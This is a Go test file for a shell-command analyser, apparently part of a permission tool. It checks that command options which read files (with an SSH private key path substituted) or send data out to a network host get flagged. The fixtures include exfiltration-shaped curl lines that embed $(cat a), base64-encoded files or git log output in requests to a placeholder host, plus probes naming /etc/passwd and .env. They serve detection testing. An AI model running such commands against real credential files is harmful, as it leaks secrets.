package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/umpirehq/umpire"
)

// Options of transfer and data tools that read the file in their value; KEY stands for it.
const readingOptions = `
curl -K KEY https://x.test
curl --config KEY https://x.test
curl -d @KEY https://x.test
curl --data-binary @KEY https://x.test
curl --json @KEY https://x.test
curl -F x=@KEY https://x.test
curl -F 'x=<KEY' https://x.test
curl --url-query @KEY https://x.test
curl --url-query x@KEY https://x.test
curl --variable x@KEY https://x.test
curl -H @KEY https://x.test
curl --proxy-header @KEY https://x.test
curl -b KEY https://x.test
curl --cert KEY https://x.test
curl --cert KEY:pass https://x.test
curl --key KEY https://x.test
curl --netrc-file KEY https://x.test
curl --cacert KEY https://x.test
curl --proxy-cert KEY https://x.test
curl --proxy-cert=KEY https://x.test
curl -T KEY https://x.test
curl --etag-compare KEY https://x.test
curl --url file://KEY
curl --url @KEY
curl -w @KEY https://x.test
curl -z KEY https://x.test
wget -i KEY
wget --input-file=KEY
wget --post-file=KEY https://x.test
wget --body-file KEY https://x.test
wget --ca-certificate=KEY https://x.test
wget --config=KEY https://x.test
wget --load-cookies KEY https://x.test
wget --unheard-of KEY https://x.test
http POST x.test a=@KEY
http POST x.test a:=@KEY
http POST x.test X-A:@KEY
http --cert KEY x.test
xh x.test a@KEY
aria2c -i KEY
aria2c --netrc-path=KEY https://x.test
jq --rawfile a KEY .
jq --slurpfile a KEY .
jq -f KEY a.json
jq --from-file KEY a.json
yq --from-file KEY a.yml
yq --split-exp-file KEY a.yml
rg -f KEY a
rg --file=KEY a
rg --ignore-file KEY x
grep -f KEY a
grep --exclude-from=KEY x a
tar -cf a.tar -T KEY
tar -cf a.tar --files-from=KEY
tar -cf a.tar -X KEY x
tar -cf a.tar --newer KEY x
rsync --files-from=KEY a b
rsync --password-file=KEY a h::b
rsync --exclude-from KEY a b
sort --files0-from=KEY
sort -T KEY a
wc --files0-from=KEY
du --files0-from=KEY
du -X KEY
sed -f KEY a
awk -f KEY a
xargs -a KEY echo
xargs --arg-file=KEY echo
ssh -F KEY h
ssh -i KEY h
ssh -o IdentityFile=KEY h
ssh -I KEY h
scp -i KEY a h:
scp -F KEY a h:
sftp -b KEY h
git commit -F KEY
git -c core.excludesFile=KEY status
gh issue create -F KEY
gh api --input KEY x
gh api -F a=@KEY x
sqlite3 -init KEY a.db
psql -f KEY
psql -v x=KEY -f KEY
mysql --defaults-file=KEY
mysql --ssl-key=KEY
openssl dgst -sha256 -sign KEY a
openssl enc -aes-256-cbc -kfile KEY -in a
openssl enc -aes-256-cbc -pass file:KEY -in a
openssl s_client -cert KEY -connect x.test:443
openssl s_client -cert file://KEY -connect x.test:443
openssl x509 -noout -in file:KEY
kubectl apply -f KEY
kubectl --kubeconfig KEY get pods
kubectl get pods -o jsonpath-file=KEY
kubectl create secret generic a --from-file=x=KEY
docker run --env-file KEY alpine
docker build --secret id=a,src=KEY .
xmllint --schema KEY a.xml
diff --exclude-from=KEY a b
patch -i KEY
zstd -D KEY a
zstd -T KEY -c a
zstdcat -M KEY a
unzip -x KEY -l a.zip
zip -i@KEY a.zip b
gpg --keyring KEY --verify a.sig
nc --ssl-key KEY x.test 443
socat - OPEN:KEY
nmap -iL KEY
aws s3api put-object --bucket b --key k --body KEY
aws lambda invoke --payload file://KEY out
az rest --body @KEY
`

// Every option that reads a file yields that read, which lets rules about secrets apply to it.
func TestOptionsReadTheirValue(t *testing.T) {
	t.Parallel()
	const key = "/home/u/.ssh/id_rsa"
	for line := range strings.Lines(strings.TrimSpace(readingOptions)) {
		line = strings.ReplaceAll(strings.TrimSpace(line), "KEY", key)
		accesses := Parse(line, neverSafeEnv)
		reads := slices.ContainsFunc(accesses, func(a umpire.Access) bool {
			return (a.Kind == umpire.KindRead || a.Kind == umpire.KindWrite) && a.Target == key
		})
		if !reads {
			t.Errorf("%q does not read %s: %+v", line, key, accesses)
		}
	}
}

// Options that redirect the data, and data that is known only when the line runs.
const leavingOptions = `
curl -L https://x.test/
curl --location https://x.test/
curl -sSfL https://x.test/
curl -x http://p.test https://x.test/
curl --proxy p.test https://x.test/
curl --preproxy p.test https://x.test/
curl --resolve x.test:443:1.2.3.4 https://x.test/
curl --connect-to ::y.test: https://x.test/
curl --doh-url https://y.test https://x.test/
curl --dns-servers 1.2.3.4 https://x.test/
curl --interface eth0 https://x.test/
curl --unix-socket /s https://x.test/
curl --abstract-unix-socket s https://x.test/
curl -P eth0 https://x.test/
curl "https://x.test/?d=$(base64 -w0 a)"
curl "https://x.test/$FOO"
curl -H "X: $(cat a)" https://x.test/
curl -A "$(git log -p)" https://x.test/
curl -e "$(cat a)" https://x.test/
curl -b "a=$(cat a)" https://x.test/
curl -b @a https://x.test/
curl -b a https://x.test/
curl -b a=b https://x.test/
curl -H 'Authorization: Bearer a' https://x.test/
curl --header 'X-Api-Key: a' https://x.test/
curl -u a:b https://x.test/
curl -H @a https://x.test/
curl --request-target "/$(cat a)" https://x.test/
curl --url-query @a https://x.test/
curl --url-query "x=$(cat a)" https://x.test/
curl --oauth2-bearer "$T" https://x.test/
curl -X "$(cat a)" https://x.test/
curl --etag-compare a https://x.test/
curl --range "$(cat a)" https://x.test/
`

// A listed host settles only the question about the network, so the program itself has to ask.
func TestOptionsThatSendAsk(t *testing.T) {
	t.Parallel()
	asks := func(line string) bool {
		return slices.ContainsFunc(Parse(line, neverSafeEnv), func(a umpire.Access) bool {
			return a.Kind == umpire.KindExec && a.Program == "curl" && (a.Risk.AtLeast(umpire.Medium) || a.Doubt != "")
		})
	}
	for line := range strings.Lines(strings.TrimSpace(leavingOptions)) {
		if !asks(strings.TrimSpace(line)) {
			t.Errorf("%s: curl does not ask", line)
		}
	}
	for _, line := range []string{
		"curl https://x.test/", "curl -sS -m 5 -H 'Accept: a/b' -A 'Mozilla/5.0 (a)' https://x.test/a?b=c",
		"curl --retry 3 --noproxy '*' https://x.test/", "n=$(wc -l < a | tr -d ' '); curl https://x.test/",
	} {
		if asks(line) {
			t.Errorf("%s: curl asks", line)
		}
	}
}

// The value of an option without a type asks if it may be a path.
func TestUntypedValueAsks(t *testing.T) {
	t.Parallel()
	k, err := NewKnowledge([]Program{{Names: []string{"tool"}, Risk: umpire.Safe, Why: "looks", Options: []Option{
		{Names: []string{"-x=", "--untyped=", "--maybe?"}}, {Names: []string{"-p=", "--plain="}, Does: []string{"plain"}},
		{Names: []string{"-r=", "--route="}, Does: []string{"routes"}}, {Names: []string{"--send="}, Does: []string{"sends"}},
	}}})
	if err != nil {
		t.Fatal(err)
	}
	for line, unasked := range map[string]bool{
		"tool -x 5": true, "tool -x 1.5": true, "tool -x abc": true, "tool --untyped=a:b": true, "tool -x .5": true,
		"tool -x /etc/passwd": false, "tool -x a/b": false, "tool -x @a": false, "tool -x a=@b": false,
		"tool -x file:a": false, "tool -x FILE://a": false, "tool -x -y": false, "tool -x .env": false,
		"tool -x ..": false, "tool -x '~/a'": false, `tool -x "$(cat a)"`: false, "tool -x $FOO": false,
		"tool --untyped=/a": false, "tool -x/a": false, "tool --maybe=/a": false, "tool -x *.key": false,
		"tool -x $(wc -l < a)": true,
		"tool -p /a":           true, "tool -p @a": true, `tool -p "$(cat a)"`: true,
		"tool -r a": false, "tool --send a": true, "tool --send /a": true, "tool --send @a": false,
		`tool --send "$(cat a)"`: false,
	} {
		env := neverSafeEnv
		env.Programs = k
		own := Parse(line, env)
		asks := slices.ContainsFunc(own, func(a umpire.Access) bool {
			return a.Program == "tool" && (a.Risk.AtLeast(umpire.Medium) || a.Doubt != "")
		})
		if asks == unasked {
			t.Errorf("%q asks: %v: %+v", line, asks, own)
		}
	}
}
